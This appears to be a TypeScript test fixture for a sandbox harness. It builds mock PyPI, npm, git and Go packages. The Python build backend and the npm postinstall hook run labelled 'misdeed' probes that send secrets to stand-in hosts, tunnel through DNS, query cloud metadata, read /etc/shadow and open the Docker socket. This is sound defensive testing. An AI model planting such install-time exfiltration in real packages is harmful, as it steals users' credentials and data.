import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import type { RequestListener } from 'node:http';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';

/** What each server answers: `host/path` to bytes. */
export type Site = Map<string, Buffer | string>;

/** Serves a site; everything else is not found. A query does not select. */
export function serving(site: Site, further?: RequestListener): RequestListener {
  return (request, response) => {
    const path = (request.url ?? '').replace(/\?.*$/, '');
    const key = `${(request.headers.host ?? '').replace(/:\d+$/, '')}${path}`;
    const moved = /^(files\.example\.test)\/moved(\/.*)$/.exec(key);
    if (moved !== null) return void response.writeHead(302, { location: `https://cdn.example.test${moved[2]}` }).end();
    const found = site.get(key) ?? site.get(key.replace(/^cdn/, 'files'));
    if (found === undefined) {
      if (further !== undefined) return further(request, response);
      return void response.writeHead(404).end('not found');
    }
    // Without a length: in chunks.
    response.writeHead(200, { 'content-type': key.endsWith('/') ? 'text/html' : 'application/octet-stream' });
    const bytes = Buffer.from(found);
    if (request.method === 'HEAD') return void response.end();
    for (let at = 0; at < bytes.length; at += 1000) response.write(bytes.subarray(at, at + 1000));
    response.end();
  };
}

export async function archive(folder: string, files: Readonly<Record<string, string>>, top: string): Promise<Buffer> {
  for (const [name, text] of Object.entries(files)) {
    await mkdir(dirname(join(folder, top, name)), { recursive: true });
    await writeFile(join(folder, top, name), text);
  }
  return gzipSync(execFileSync('tar', ['-C', folder, '-cf', '-', top]));
}

/** What code of somebody else tries, in Python: each line of the file `tried` says how one ended. */
export const PYTHON_MISDEEDS = `
import os, socket, urllib.request
def attempt(name, act):
    try:
        print("MISDEED", name, "done", act())
    except BaseException as error:
        print("MISDEED", name, "stopped", type(error).__name__)
def tcp(): s = socket.create_connection(("203.0.113.66", 4444), 5); s.sendall(b"secrets"); return s.recv(1) or 1/0
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"secrets", ("203.0.113.67", 53123)); return s.recv(1)
def quic():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect(("203.0.113.68", 443)); s.send(b"\\xc3" + b"\\0" * 40); return s.recv(1)
def tunnel(): return socket.gethostbyname("c2VjcmV0cw.tunnel.example.test")
def post(): return urllib.request.urlopen("https://collect.example.test/in", data=b"secrets").read()
def metadata(): return urllib.request.urlopen("http://169.254.169.254/latest/meta-data/").read()
def key(): return open(os.environ.get("KEY_PLACE", "/etc/shadow")).read()
def docker(): s = socket.socket(socket.AF_UNIX); s.connect("/run/docker.sock"); return 1
attempt("tcp", tcp); attempt("udp", udp); attempt("quic", quic); attempt("post", post)
attempt("metadata", metadata); attempt("key", key); attempt("docker", docker)
try: tunnel()
except OSError: pass
`;

/** A source distribution whose build is a program of its author (PEP 517, with a backend of its own). */
export async function sdist(folder: string): Promise<{ name: string; bytes: Buffer; sha256: string }> {
  const backend = `${PYTHON_MISDEEDS}
import zipfile
def get_requires_for_build_wheel(config_settings=None): return []
def build_wheel(directory, config_settings=None, metadata_directory=None):
    name = "noisy-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as out:
        out.writestr("noisy.py", "x = 1\\n")
        out.writestr("noisy-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: noisy\\nVersion: 1.0\\n")
        out.writestr("noisy-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        out.writestr("noisy-1.0.dist-info/RECORD", "")
    return name
`;
  const files = {
    'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    'backend.py': backend,
    'PKG-INFO': 'Metadata-Version: 2.1\nName: noisy\nVersion: 1.0\n',
  };
  const bytes = await archive(folder, files, 'noisy-1.0');
  return { name: 'noisy-1.0.tar.gz', bytes, sha256: createHash('sha256').update(bytes).digest('hex') };
}

/** A package of npm with a script that runs when it is installed. */
export async function npmPackage(folder: string, registry: string): Promise<{ packument: string; bytes: Buffer }> {
  const script = `const { connect } = require('node:net');
    const { writeFileSync } = require('node:fs');
    const socket = connect(4445, '203.0.113.70');
    const end = (how) => { writeFileSync('tried', how); process.exit(0); };
    socket.on('connect', () => socket.write('secrets')); socket.on('data', () => end('answered'));
    socket.on('error', (e) => end(e.code)); socket.on('close', () => end('closed')); setTimeout(() => end('silent'), 5000);`;
  const manifest = { name: 'noisy', version: '1.0.0', scripts: { postinstall: 'node post.js' } };
  const bytes = await archive(folder, { 'package.json': JSON.stringify(manifest), 'post.js': script }, 'package');
  const integrity = `sha512-${createHash('sha512').update(bytes).digest('base64')}`;
  const version = {
    ...manifest,
    hasInstallScript: true,
    dist: { tarball: `${registry}noisy/-/noisy-1.0.0.tgz`, integrity },
  };
  const packument = { name: 'noisy', 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': version } };
  return { packument: JSON.stringify(packument), bytes };
}

/** Git's own server, as a CGI program (RFC 3875), for repositories below a folder. */
export function gitServer(root: string): RequestListener {
  return (request, response) => {
    const [path = '', query = ''] = (request.url ?? '').split('?');
    const child = spawn('git', ['http-backend'], {
      env: {
        PATH: process.env['PATH'] ?? '',
        GIT_PROJECT_ROOT: root,
        GIT_HTTP_EXPORT_ALL: '1',
        GIT_CONFIG_COUNT: '1',
        GIT_CONFIG_KEY_0: 'safe.directory',
        GIT_CONFIG_VALUE_0: '*',
        PATH_INFO: path,
        QUERY_STRING: query,
        REQUEST_METHOD: request.method ?? 'GET',
        CONTENT_TYPE: request.headers['content-type'] ?? '',
        CONTENT_LENGTH: request.headers['content-length'] ?? '',
        ...(request.headers['content-encoding'] === undefined
          ? {}
          : { HTTP_CONTENT_ENCODING: request.headers['content-encoding'] }),
        ...(request.headers['git-protocol'] === undefined
          ? {}
          : { GIT_PROTOCOL: String(request.headers['git-protocol']) }),
      },
      stdio: ['pipe', 'pipe', 'ignore'],
    });
    request.pipe(child.stdin);
    child.stdin.on('error', () => undefined);
    let head = Buffer.alloc(0);
    let isOpen = false;
    child.stdout.on('data', (piece: Buffer) => {
      if (isOpen) return void response.write(piece);
      head = Buffer.concat([head, piece]);
      const end = head.indexOf('\r\n\r\n');
      if (end === -1) return;
      isOpen = true;
      const lines = head
        .toString('latin1', 0, end)
        .split('\r\n')
        .map((line) => line.split(/:\s*/, 2));
      const status = Number(lines.find(([name]) => name === 'Status')?.[1]?.slice(0, 3) ?? 200);
      response.writeHead(status, lines.filter(([name]) => name !== 'Status').flat() as string[]);
      response.write(head.subarray(end + 4));
    });
    child.stdout.on('end', () => response.end());
  };
}

/** A module in the protocol of GOPROXY. */
export async function goModule(folder: string): Promise<Record<string, Buffer | string>> {
  const base = 'example.test/greet@v1.0.0';
  const files = {
    'go.mod': 'module example.test/greet\n\ngo 1.20\n',
    'greet.go': 'package greet\n\nconst Word = "hello"\n',
  };
  for (const [name, text] of Object.entries(files)) {
    await mkdir(join(folder, base), { recursive: true });
    await writeFile(join(folder, base, name), text);
  }
  execFileSync('python3', ['-m', 'zipfile', '-c', 'm.zip', ...Object.keys(files).map((name) => join(base, name))], {
    cwd: folder,
  });
  // zipfile keeps only the last part of a name; the module's own path must stand in it.
  const code = `import zipfile,sys
with zipfile.ZipFile('m.zip','w') as out:
  for name in sys.argv[1:]: out.write(name, name)`;
  execFileSync('python3', ['-c', code, ...Object.keys(files).map((name) => join(base, name))], { cwd: folder });
  const at = 'goproxy.example.test/example.test/greet/@v';
  return {
    [`${at}/list`]: 'v1.0.0\n',
    [`${at}/v1.0.0.info`]: '{"Version":"v1.0.0","Time":"2026-01-01T00:00:00Z"}',
    [`${at}/v1.0.0.mod`]: files['go.mod'],
    [`${at}/v1.0.0.zip`]: await readFile(join(folder, 'm.zip')),
  };
}
